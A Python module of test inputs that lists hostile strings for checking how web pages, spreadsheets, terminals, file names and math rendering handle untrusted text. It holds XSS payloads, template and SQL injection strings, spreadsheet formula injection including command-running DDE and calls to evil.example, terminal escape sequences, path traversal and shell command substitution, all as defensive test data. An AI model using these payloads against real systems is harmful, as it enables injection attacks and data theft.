# SPDX-License-Identifier: Apache-2.0
"""Texts that somebody might give as a name or a note to make a page, a table, a terminal, a folder or a figure misbehave."""

HTML = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</svg><img src=x onerror=alert(1)>", "</desc><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>", "javascript:alert(1)",
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>", "'><img src=x>",
    "--><script>alert(1)</script>", "<!-- ", "<![CDATA[<script>alert(1)</script>]]>", "]]><script>",
    "{{7*7}}", "{% include '/etc/passwd' %}", "{0.__class__}", "{name}", "%s%n%x", "${7*7}", "#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&amp;", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>", "<object data=x>", "<embed src=x>", "<form action=//evil.example>",
    "<math><mtext><img src=x onerror=alert(1)>", "<template><script>", "\u2028</script>\u2029", "</data><b>bold</b>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)  # fmt: skip

SPREADSHEET = (
    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")', '=DDE("cmd";"/C calc";"x")', "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1", "\N{FULLWIDTH PLUS SIGN}1+1", "\N{FULLWIDTH HYPHEN-MINUS}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)", '","=1+1', '"\n=1+1',
)  # fmt: skip

TERMINAL = (
    "\x1b[2Jx", "\x1b]0;taken\x07x", "\x1b]8;;http://evil.example\x1b\\x", "\x9b2Jx", "x\x07", "x\x08\x08\x08y",
    "x\x7fy", "\x1b[1A\x1b[2Kx", "\x1b[?1049hx", "\x0ex\x0f", "\x1bPx\x1b\\", "\u202eevil", "\u2066x\u2069",
    "zero\u200bwidth", "[bold red]x[/]", "[link=http://evil.example]x[/link]", "%s%n%x", "\x1b[31mred",
)  # fmt: skip

FILE_NAMES = (
    "../../x", "..\\..\\x", "/etc/passwd", "C:\\Windows\\x", "CON", "nul.txt", "-rf", "--out", ".", "..", ".hidden",
    "a/b", "a:b", "x" * 190, "🙂", "~root", "$(touch taken)", "`touch taken`", "a*b?", "pаypal",  # noqa: RUF001 - Cyrillic
)  # fmt: skip

MATHTEXT = (
    "$25k + $75k", r"\frac{1}{2}", r"$\frac{1}{0}$", "$x^2$", "a_b^c $x$", "$", "$$", r"\$5", r"$\unknown{x}$",
    "${7*7}", r"$\left($", r"\text{x}", "100 % of $1", "_under_ ^hat^",
)  # fmt: skip

OTHER = (
    "\u202eabc", "\u200b\u200b", "e" + "\u0301" * 60, "=cmd|' /C calc'!A0", "100 % \\ ~ #", "Tiếng Việt Nguyễn",
    "中文 繁體", "🌮🧵", "../../x", "'; DROP TABLE x;--", "A" * 200,
)  # fmt: skip
ALL_ON_A_PAGE = (*HTML, *OTHER, *MATHTEXT)
LEAST = {"HTML": 40, "SPREADSHEET": 20, "TERMINAL": 15, "FILE_NAMES": 15, "MATHTEXT": 12}
